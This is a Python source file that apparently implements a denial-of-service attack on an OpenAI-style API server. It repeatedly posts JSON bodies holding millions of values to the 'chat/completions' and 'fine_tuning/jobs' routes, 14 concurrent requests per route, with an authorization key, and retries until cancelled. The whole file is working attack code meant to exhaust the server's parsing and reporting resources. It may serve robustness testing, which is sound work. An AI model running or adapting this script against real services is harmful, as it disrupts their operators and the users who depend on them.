"""The attack with bodies of millions of values, which take long to parse and longer to report on."""

from __future__ import annotations

import asyncio

import aiohttp

_BODIES = {
    "chat/completions": b'{"messages": [' + b"0," * 1_500_000 + b"0]}",
    "fine_tuning/jobs": b'{"a": [' + b"{}," * 5_000_000 + b"{}]}",
}
_AT_ONCE = 14


async def attack(base_url: str, key: str) -> None:
    """Send such bodies, 14 at once on each route, until cancelled."""
    headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
    async with aiohttp.ClientSession(headers=headers) as session, asyncio.TaskGroup() as tasks:
        for route, body in _BODIES.items():
            for _ in range(_AT_ONCE):
                tasks.create_task(_send(session, f"{base_url}/{route}", body))


async def _send(session: aiohttp.ClientSession, url: str, body: bytes) -> None:
    while True:
        try:
            async with session.post(url, data=body) as answer:
                await answer.read()
        except aiohttp.ClientError:
            await asyncio.sleep(0.1)  # the connection was closed before all was sent
